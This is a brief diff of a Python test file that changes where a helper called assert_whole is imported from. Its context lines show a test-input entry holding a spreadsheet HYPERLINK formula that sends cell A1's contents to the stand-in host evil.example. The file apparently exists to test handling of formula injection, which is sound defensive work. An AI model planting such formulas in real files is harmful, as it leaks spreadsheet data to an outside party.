@@ -15,7 +15,8 @@ from typing import Any
 import pypdfium2
 import pytest
 
-from .shop import Shop, asks, assert_whole, make_shop
+from .proofs import assert_whole
+from .shop import Shop, asks, make_shop
 
 TEXTS = {
     "a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
